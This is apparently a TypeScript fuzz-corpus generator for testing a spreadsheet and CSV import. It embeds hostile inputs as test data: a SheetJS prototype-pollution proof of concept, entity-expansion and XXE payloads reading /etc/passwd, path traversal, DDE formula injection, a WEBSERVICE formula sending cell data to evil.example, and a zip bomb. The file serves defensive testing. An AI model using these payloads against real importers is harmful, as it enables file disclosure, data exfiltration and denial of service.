import * as XLSX from '@e965/xlsx';
import iconv from 'iconv-lite';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import * as path from 'node:path';
import { createDeflateRaw, deflateRawSync } from 'node:zlib';
import { ROSTERS } from '../../backend/imports/samples';
import { csvText, ROSTER, xlsFile } from '../../backend/imports/make-files';

export interface CorpusFile {
  name: string;
  /** What was done to make it, for the summary (e.g. `flip`, `zip-part`, `csv`). */
  kind: string;
  bytes: Uint8Array;
}

/** A small seeded generator, so a failing corpus file can be made again. */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

type Parts = Map<string, Buffer>;

interface CfbEntry {
  name: string;
  type: number;
  content: Uint8Array;
}
interface CfbContainer {
  FileIndex: CfbEntry[];
  FullPaths: string[];
}
/** The container library SheetJS bundles (typed `any` there): zip and OLE, read and written. */
const CFB = XLSX.CFB as {
  read(data: Buffer, opts: { type: 'buffer' }): CfbContainer;
  write(c: CfbContainer, opts: { type: 'buffer'; fileType?: 'zip'; compression?: boolean }): Buffer;
  utils: {
    cfb_new(): CfbContainer;
    cfb_add(c: CfbContainer, name: string, content: Uint8Array): void;
    cfb_del(c: CfbContainer, name: string): void;
  };
};

/** The parts of a zip (xlsx, ods), by path. */
export function unzip(bytes: Uint8Array): Parts {
  const cfb = CFB.read(Buffer.from(bytes), { type: 'buffer' });
  const parts: Parts = new Map();
  cfb.FileIndex.forEach((e, i) => {
    const name = cfb.FullPaths[i]!.replace(/^Root Entry\//, '');
    if (e.type === 2 && !name.startsWith('\u0001')) parts.set(name, Buffer.from(e.content as Uint8Array));
  });
  return parts;
}

export function zip(parts: Parts): Buffer {
  const cfb = CFB.utils.cfb_new();
  for (const [name, content] of parts) CFB.utils.cfb_add(cfb, name, content);
  return CFB.write(cfb, { fileType: 'zip', type: 'buffer', compression: true });
}

const book = (rows: unknown[][], name = '报名表'): XLSX.WorkBook => {
  const wb = XLSX.utils.book_new();
  XLSX.utils.book_append_sheet(wb, XLSX.utils.aoa_to_sheet(rows), name);
  return wb;
};
const write = (wb: XLSX.WorkBook, bookType: XLSX.BookType): Buffer =>
  XLSX.write(wb, { bookType, type: 'buffer' }) as Buffer;

/** Valid files of every kind the import reads: the shared sample rosters and files made with the library. */
export function seeds(): CorpusFile[] {
  const samples = [
    'badong-signups.csv',
    'badong-signups.xlsx',
    'enterprise-demand-h1.csv',
    'enterprise-demand-h1.xlsx',
    'jianshi-signups.xlsx',
  ].map((name) => ({ name, kind: 'seed', bytes: readFileSync(path.join(ROSTERS, name)) }));
  const wb = book(ROSTER);
  return [
    ...samples,
    { name: 'roster.xlsx', kind: 'seed', bytes: write(wb, 'xlsx') },
    { name: 'roster.xls', kind: 'seed', bytes: xlsFile() },
    { name: 'roster-biff5.xls', kind: 'seed', bytes: write(wb, 'biff5') },
    { name: 'roster-biff2.xls', kind: 'seed', bytes: write(wb, 'biff2') },
    { name: 'roster-2003.xml.xls', kind: 'seed', bytes: write(wb, 'xlml') },
    { name: 'roster-html.xls', kind: 'seed', bytes: write(wb, 'html') },
    { name: 'roster.ods', kind: 'seed', bytes: write(wb, 'ods') },
    { name: 'roster-gbk.csv', kind: 'seed', bytes: iconv.encode(csvText(), 'gbk') },
    {
      name: 'roster-utf16.csv',
      kind: 'seed',
      bytes: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(csvText(), 'utf16le')]),
    },
  ];
}

function flips(seed: CorpusFile, rnd: () => number, count: number): CorpusFile[] {
  const out: CorpusFile[] = [];
  for (let v = 0; v < count; v++) {
    const bytes = Buffer.from(seed.bytes);
    const n = 1 + Math.floor(rnd() * (v % 3 === 0 ? 64 : 8));
    for (let k = 0; k < n; k++) bytes[Math.floor(rnd() * bytes.length)] = Math.floor(rnd() * 256);
    out.push({ name: `flip${v}-${seed.name}`, kind: 'byte-flip', bytes });
  }
  return out;
}

function truncations(seed: CorpusFile, rnd: () => number, count: number): CorpusFile[] {
  const out: CorpusFile[] = [];
  for (let v = 0; v < count; v++) {
    const at = v === 0 ? 4 : Math.floor(rnd() * seed.bytes.length);
    out.push({ name: `cut${at}-${seed.name}`, kind: 'truncated', bytes: seed.bytes.subarray(0, at) });
  }
  return out;
}

const SHEET_NS = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const REL_NS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

function sheetXml(body: string, extra = ''): Buffer {
  return Buffer.from(
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="${SHEET_NS}" xmlns:r="${REL_NS}">${extra}<sheetData>${body}</sheetData></worksheet>`,
  );
}

const row = (r: number, cells: string) => `<row r="${r}">${cells}</row>`;
const inline = (ref: string, text: string) => `<c r="${ref}" t="inlineStr"><is><t>${text}</t></is></c>`;
const HEADER = row(1, inline('A1', '姓名') + inline('B1', '身份证号码') + inline('C1', '联系电话'));

/** A comments part (and its relationship) on the first sheet: the shape of the SheetJS prototype-pollution PoC. */
export function withComments(parts: Parts, refs: string[], threaded = false): Parts {
  const out = new Map(parts);
  const comments = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<comments xmlns="${SHEET_NS}"><authors><author>x</author></authors><commentList>${refs
    .map((r) => `<comment ref="${r}" authorId="0"><text><r><t>polluted</t></r></text></comment>`)
    .join('')}</commentList></comments>`;
  out.set('xl/comments1.xml', Buffer.from(comments));
  const rels: string[] = [`<Relationship Id="rIdC1" Type="${REL_NS}/comments" Target="../comments1.xml"/>`];
  if (threaded) {
    out.set(
      'xl/threadedComments/threadedComment1.xml',
      Buffer.from(
        `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<ThreadedComments xmlns="http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments">${refs
          .map(
            (r, i) =>
              `<threadedComment ref="${r}" dT="2023-01-01T00:00:00.00" personId="__proto__" id="{0000000${i}-0000-0000-0000-000000000000}"><text>polluted</text></threadedComment>`,
          )
          .join('')}</ThreadedComments>`,
      ),
    );
    out.set(
      'xl/persons/person.xml',
      Buffer.from(
        `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<personList xmlns="http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments"><person displayName="polluted" id="__proto__" userId="__proto__" providerId="None"/></personList>`,
      ),
    );
    rels.push(
      `<Relationship Id="rIdT1" Type="http://schemas.microsoft.com/office/2017/10/relationships/threadedComment" Target="../threadedComments/threadedComment1.xml"/>`,
    );
  }
  out.set(
    'xl/worksheets/_rels/sheet1.xml.rels',
    Buffer.from(
      `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rels.join('')}</Relationships>`,
    ),
  );
  const types = out.get('[Content_Types].xml')!.toString();
  out.set(
    '[Content_Types].xml',
    Buffer.from(
      types.replace(
        '</Types>',
        `<Override PartName="/xl/comments1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.comments+xml"/>` +
          (threaded
            ? `<Override PartName="/xl/threadedComments/threadedComment1.xml" ContentType="application/vnd.ms-excel.threadedcomments+xml"/><Override PartName="/xl/persons/person.xml" ContentType="application/vnd.ms-excel.person+xml"/>`
            : '') +
          '</Types>',
      ),
    ),
  );
  return out;
}

/** The SheetJS advisory's proof of concept (CVE-2023-30533): comments whose cell reference is `__proto__`. */
export function prototypePollutionPoc(): CorpusFile[] {
  const base = unzip(write(book(ROSTER), 'xlsx'));
  const refs = ['__proto__', 'constructor', 'prototype', 'toString', 'A1'];
  return [
    { name: 'poc-comments.xlsx', kind: 'poc', bytes: zip(withComments(base, refs)) },
    { name: 'poc-threaded-comments.xlsx', kind: 'poc', bytes: zip(withComments(base, refs, true)) },
    { name: 'poc-comments-only-proto.xlsx', kind: 'poc', bytes: zip(withComments(base, ['__proto__'])) },
  ];
}

/** Part-level changes to an xlsx: bad XML, huge and deep content, formulas, crafted keys and references. */
function zipPartMutations(seed: CorpusFile): CorpusFile[] {
  const parts = unzip(seed.bytes);
  const sheetPath = [...parts.keys()].find((k) => /^xl\/worksheets\/sheet\d*\.xml$/.test(k))!;
  const sheet = parts.get(sheetPath)!.toString();
  const variants: [string, (p: Parts) => void][] = [
    ['sheet-half', (p) => p.set(sheetPath, Buffer.from(sheet.slice(0, sheet.length / 2)))],
    ['sheet-no-close', (p) => p.set(sheetPath, Buffer.from(sheet.replace(/<\/(row|c|v|sheetData)>/g, '')))],
    ['sheet-lt-amp', (p) => p.set(sheetPath, Buffer.from(sheet.replaceAll('<c ', '&c ')))],
    ['sheet-empty', (p) => p.set(sheetPath, Buffer.alloc(0))],
    ['sheet-missing', (p) => p.delete(sheetPath)],
    [
      'workbook-garbage',
      (p) => p.set('xl/workbook.xml', Buffer.from('<workbook><sheets><sheet name="x" r:id=')),
    ],
    ['workbook-missing', (p) => p.delete('xl/workbook.xml')],
    ['content-types-missing', (p) => p.delete('[Content_Types].xml')],
    ['shared-strings-missing', (p) => p.delete('xl/sharedStrings.xml')],
    [
      'shared-string-index-out-of-range',
      (p) =>
        p.set(
          sheetPath,
          sheetXml(HEADER + row(2, `<c r="A2" t="s"><v>99999999</v></c><c r="B2" t="s"><v>-1</v></c>`)),
        ),
    ],
    [
      'huge-cell-4mb',
      (p) => p.set(sheetPath, sheetXml(HEADER + row(2, inline('A2', '张'.repeat(2_000_000))))),
    ],
    [
      'deep-nesting',
      (p) =>
        p.set(
          sheetPath,
          sheetXml(
            HEADER +
              row(
                2,
                `<c r="A2" t="inlineStr"><is>${'<r>'.repeat(50_000)}<t>x</t>${'</r>'.repeat(50_000)}</is></c>`,
              ),
          ),
        ),
    ],
    [
      'deep-unknown-elements',
      (p) => p.set(sheetPath, sheetXml(HEADER + '<x>'.repeat(100_000) + '</x>'.repeat(100_000))),
    ],
    [
      'billion-laughs',
      (p) =>
        p.set(
          'xl/sharedStrings.xml',
          Buffer.from(
            `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]><sst xmlns="${SHEET_NS}" count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>`,
          ),
        ),
    ],
    [
      'external-entity',
      (p) =>
        p.set(
          'xl/sharedStrings.xml',
          Buffer.from(
            `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><sst xmlns="${SHEET_NS}"><si><t>&xxe;</t></si></sst>`,
          ),
        ),
    ],
    ['dimension-whole-sheet', (p) => p.set(sheetPath, sheetXml(HEADER, '<dimension ref="A1:XFD1048576"/>'))],
    ['last-cell', (p) => p.set(sheetPath, sheetXml(HEADER + row(1048576, inline('XFD1048576', 'far away'))))],
    [
      'merge-whole-sheet',
      (p) =>
        p.set(
          sheetPath,
          Buffer.from(
            sheet.replace(
              '</sheetData>',
              '</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>',
            ),
          ),
        ),
    ],
    [
      'many-wide-merges',
      (p) =>
        p.set(
          sheetPath,
          Buffer.from(
            sheet.replace(
              '</sheetData>',
              `</sheetData><mergeCells>${Array.from({ length: 2000 }, (_, i) => `<mergeCell ref="A${i + 1}:XFD${i + 1}"/>`).join('')}</mergeCells>`,
            ),
          ),
        ),
    ],
    [
      'formulas',
      (p) =>
        p.set(
          sheetPath,
          sheetXml(
            HEADER +
              row(
                2,
                `<c r="A2" t="str"><f>cmd|' /C calc'!A0</f><v>=cmd|' /C calc'!A0</v></c><c r="B2"><f>WEBSERVICE("http://evil.example/"&amp;A1)</f></c><c r="C2" t="str"><f>${'A1&amp;'.repeat(20_000)}A1</f><v>x</v></c>`,
              ) +
              row(
                3,
                `<c r="A3"><f t="shared" ref="A3:XFD1048576" si="0">A1</f><v>1</v></c><c r="B3"><f t="shared" si="0"/></c>`,
              ) +
              row(4, `<c r="A4"><f t="array" ref="A4:XFD1048576">SUM(A1:A3)</f><v>1</v></c>`),
          ),
        ),
    ],
    [
      'typed-cells-garbage',
      (p) =>
        p.set(
          sheetPath,
          sheetXml(
            HEADER +
              row(
                2,
                `<c r="A2" t="d"><v>not a date</v></c><c r="B2" t="n"><v>NaN</v></c><c r="C2" t="n"><v>1e400</v></c><c r="D2" t="b"><v>2</v></c><c r="E2" t="e"><v>#BOGUS!</v></c><c r="F2" t="__proto__"><v>1</v></c><c r="G2" s="99999"><v>1</v></c>`,
              ) +
              row(0, inline('A0', 'row zero')) +
              `<row r="-5">${inline('ZZZZZZZZ1', 'bad ref')}</row>`,
          ),
        ),
    ],
    [
      'sheet-named-proto',
      (p) =>
        p.set(
          'xl/workbook.xml',
          Buffer.from(
            p
              .get('xl/workbook.xml')!
              .toString()
              .replace(/<sheet ([^>]*)name="[^"]*"/, '<sheet $1name="__proto__"')
              .replace(
                '</workbook>',
                '<definedNames><definedName name="__proto__">Sheet1!$A$1</definedName><definedName name="constructor">#REF!</definedName></definedNames></workbook>',
              ),
          ),
        ),
    ],
    [
      'rels-escape',
      (p) =>
        p.set(
          'xl/_rels/workbook.xml.rels',
          Buffer.from(
            p
              .get('xl/_rels/workbook.xml.rels')!
              .toString()
              .replace(/Target="worksheets\/sheet1\.xml"/, 'Target="../../../../../etc/passwd"'),
          ),
        ),
    ],
    [
      'custom-props-proto',
      (p) => {
        p.set(
          'docProps/custom.xml',
          Buffer.from(
            `<?xml version="1.0" encoding="UTF-8"?><Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"><property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="__proto__"><vt:lpwstr>polluted</vt:lpwstr></property><property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="3" name="constructor"><vt:lpwstr>polluted</vt:lpwstr></property></Properties>`,
          ),
        );
      },
    ],
    ['comments-proto', (p) => withComments(p, ['__proto__', 'constructor']).forEach((v, k) => p.set(k, v))],
    ['threaded-proto', (p) => withComments(p, ['__proto__'], true).forEach((v, k) => p.set(k, v))],
    [
      'header-proto-columns',
      (p) =>
        p.set(
          sheetPath,
          sheetXml(
            row(
              1,
              inline('A1', '__proto__') +
                inline('B1', 'constructor') +
                inline('C1', '姓名') +
                inline('D1', '身份证号码'),
            ) +
              row(
                2,
                inline('A2', '{"polluted":1}') +
                  inline('B2', 'x') +
                  inline('C2', '易玲波') +
                  inline('D2', '422823200301296461'),
              ),
          ),
        ),
    ],
  ];
  return variants.map(([label, change]) => {
    const p = new Map(parts);
    change(p);
    return { name: `${label}-${seed.name}`, kind: 'zip-part', bytes: zip(p) };
  });
}

/** CSV text built to break a reader: huge and many cells, quotes, controls, formulas, encodings. */
function csvMutations(rnd: () => number): CorpusFile[] {
  const text = csvText();
  const out: CorpusFile[] = [];
  const add = (label: string, bytes: Buffer | string) =>
    out.push({
      name: `${label}.csv`,
      kind: 'csv',
      bytes: typeof bytes === 'string' ? Buffer.from(bytes) : bytes,
    });
  add('huge-cell', `姓名,身份证号码,联系电话\n${'张'.repeat(1_500_000)},422823200301296461,13794571255\n`);
  add('wide', `${Array.from({ length: 30_000 }, (_, i) => `c${i}`).join(',')}\n`);
  add(
    'unbalanced-quote',
    `姓名,身份证号码,联系电话\n"易玲波,422823200301296461,13794571255\n${'x,y,z\n'.repeat(5000)}`,
  );
  add('only-quotes', '"'.repeat(200_001));
  add('only-commas', ','.repeat(500_000));
  add('cr-only', text.replaceAll('\r\n', '\r'));
  add('nul-sprinkled', text.replaceAll(',', ',\u0000'));
  add('bom-only', Buffer.from([0xef, 0xbb, 0xbf]));
  add(
    'utf16-bom-odd',
    Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from('姓名,身份证号码', 'utf16le'),
      Buffer.from([0x41]),
    ]),
  );
  add('utf16be', Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(text, 'utf16le').swap16()]));
  add('mixed-encodings', Buffer.concat([Buffer.from(text), iconv.encode(text, 'gbk')]));
  add(
    'formulas',
    `姓名,身份证号码,联系电话\n=cmd|' /C calc'!A0,=1+1,@SUM(A1)\n+1,-1,"=HYPERLINK(""http://x"")"\n\t=1,\r=2,x\n`,
  );
  add(
    'proto-header',
    `__proto__,constructor,姓名,身份证号码,联系电话\n{"a":1},x,易玲波,422823200301296461,13794571255\n`,
  );
  add('proto-cells', `姓名,身份证号码,联系电话\n__proto__,constructor,prototype\n`);
  add('html-lookalike', `<html><table>${'<tr><td>x</td>'.repeat(20_000)}</table>`);
  add('xml-lookalike', `<?xml version="1.0"?>${'<a>'.repeat(50_000)}`);
  add(
    'doctype-bomb',
    `<!DOCTYPE html [<!ENTITY a "${'a'.repeat(1000)}"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><table><tr><td>&b;&b;&b;</td></tr></table>`,
  );
  add('deep-quotes', `"${'""'.repeat(300_000)}"`);
  add('long-line-no-newline', 'a,'.repeat(400_000));
  add('tabs', text.replaceAll(',', '\t'));
  add('semicolons', text.replaceAll(',', ';'));
  add('sylk', 'ID;PWXL;N;E\nC;Y1;X1;K"__proto__"\nC;Y1;X2;K"姓名"\nE\n');
  add(
    'dif',
    'TABLE\n0,1\n""\nVECTORS\n0,1\n""\nTUPLES\n0,1\n""\nDATA\n0,0\n""\n-1,0\nBOT\n1,0\n"__proto__"\n-1,0\nEOD\n',
  );
  // Random CSV: random cells of random characters, quotes and separators.
  const alphabet = [
    'a',
    '张',
    ',',
    '"',
    '\n',
    '\r',
    ' ',
    '=',
    '4',
    '\u0000',
    '\u2028',
    '\uFEFF',
    '\uD800',
    '𠀀',
  ];
  for (let v = 0; out.length < 150; v++) {
    const len = Math.floor(rnd() * (v % 10 === 0 ? 200_000 : 2_000));
    let s = v % 2 ? '姓名,身份证号码,联系电话\n' : '';
    for (let i = 0; i < len; i++) s += alphabet[Math.floor(rnd() * alphabet.length)];
    add(`random${v}`, v % 3 === 0 ? iconv.encode(s, 'gbk') : Buffer.from(s));
  }
  return out;
}

/** Changes to the streams of an .xls (an OLE container): flipped and cut records, a missing or extra stream. */
function cfbMutations(seed: CorpusFile, rnd: () => number, count: number): CorpusFile[] {
  const out: CorpusFile[] = [];
  const original = CFB.read(Buffer.from(seed.bytes), { type: 'buffer' });
  const streamIndex = original.FileIndex.findIndex((e) => e.type === 2 && /workbook|book/i.test(e.name));
  for (let v = 0; v < count; v++) {
    const cfb = CFB.read(Buffer.from(seed.bytes), { type: 'buffer' });
    const entry = cfb.FileIndex[streamIndex]!;
    const content = Buffer.from(entry.content as Uint8Array);
    const mode = v % 5;
    if (mode === 0)
      for (let k = 0; k < 1 + (v % 17); k++)
        content[Math.floor(rnd() * content.length)] = Math.floor(rnd() * 256);
    if (mode === 1) entry.content = content.subarray(0, Math.floor(rnd() * content.length));
    if (mode === 2) {
      // A record length far beyond the stream.
      const at = Math.floor(rnd() * (content.length - 4));
      content.writeUInt16LE(0xffff, at + 2);
    }
    if (mode === 3) CFB.utils.cfb_del(cfb, '/' + entry.name);
    if (mode === 4) CFB.utils.cfb_add(cfb, '/EncryptionInfo', Buffer.from([4, 0, 4, 0]));
    if (mode === 0 || mode === 2) entry.content = content;
    const bytes = CFB.write(cfb, { type: 'buffer' }) as Buffer;
    out.push({ name: `stream${v}-${seed.name}`, kind: 'xls-stream', bytes });
  }
  return out;
}

/** The generated corpus: at least 1,000 files of every kind, deterministic for a seed. */
export function buildCorpus(seed = 20260211): CorpusFile[] {
  const rnd = prng(seed);
  const base = seeds();
  const files: CorpusFile[] = [...base];
  for (const s of base) files.push(...flips(s, rnd, 36), ...truncations(s, rnd, 10));
  for (const s of base.filter((f) => f.name.endsWith('.xlsx'))) files.push(...zipPartMutations(s));
  files.push(...csvMutations(rnd));
  for (const s of base.filter((f) => f.name === 'roster.xls' || f.name === 'roster-biff5.xls'))
    files.push(...cfbMutations(s, rnd, 30));
  // The right bytes under the wrong name, and the other way round.
  const swaps: Record<string, string> = { xlsx: 'csv', csv: 'xlsx', xls: 'xlsx', ods: 'xls' };
  for (const s of base) {
    const ext = s.name.split('.').pop()!;
    files.push({ name: `${s.name}.${swaps[ext] ?? 'csv'}`, kind: 'wrong-extension', bytes: s.bytes });
    files.push({ name: s.name.replace(/\.[^.]+$/, ''), kind: 'wrong-extension', bytes: s.bytes });
  }
  files.push(...prototypePollutionPoc());
  return files;
}

/** A zip of already deflated parts (name, raw deflate data, inflated size); CRCs are left zero. */
function zipOfDeflated(entries: [string, Buffer, number][]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, data, size] of entries) {
    const n = Buffer.from(name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(n.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(n.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, n, data);
    centrals.push(central, n);
    offset += 30 + n.length + data.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

/**
 * A decompression bomb: a valid roster whose sheet part inflates to `mb` megabytes of blanks from
 * under a megabyte on disk. Deflated as a stream, so the test never holds the inflated part.
 */
export async function inflateBomb(mb: number): Promise<CorpusFile> {
  const parts = unzip(write(book(ROSTER), 'xlsx'));
  const sheetPath = [...parts.keys()].find((k) => /^xl\/worksheets\/sheet\d*\.xml$/.test(k))!;
  const sheet = parts.get(sheetPath)!.toString();
  const at = sheet.indexOf('<sheetData');
  const blank = Buffer.alloc(1024 * 1024, 0x20);
  const deflate = createDeflateRaw({ level: 9 });
  const chunks: Buffer[] = [];
  deflate.on('data', (c: Buffer) => chunks.push(c));
  const done = new Promise((resolve, reject) => deflate.on('end', resolve).on('error', reject));
  deflate.write(sheet.slice(0, at));
  for (let i = 0; i < mb; i++) if (!deflate.write(blank)) await once(deflate, 'drain');
  deflate.end(sheet.slice(at));
  await done;
  const entries: [string, Buffer, number][] = [...parts]
    .filter(([name]) => name !== sheetPath)
    .map(([name, raw]) => [name, deflateRawSync(raw), raw.length]);
  const size = Buffer.byteLength(sheet) + mb * blank.length;
  entries.push([sheetPath, Buffer.concat(chunks), size > 0xffffffff ? 0xffffffff : size]);
  return { name: `inflate-bomb-${mb}mb.xlsx`, kind: 'zip-bomb', bytes: zipOfDeflated(entries) };
}
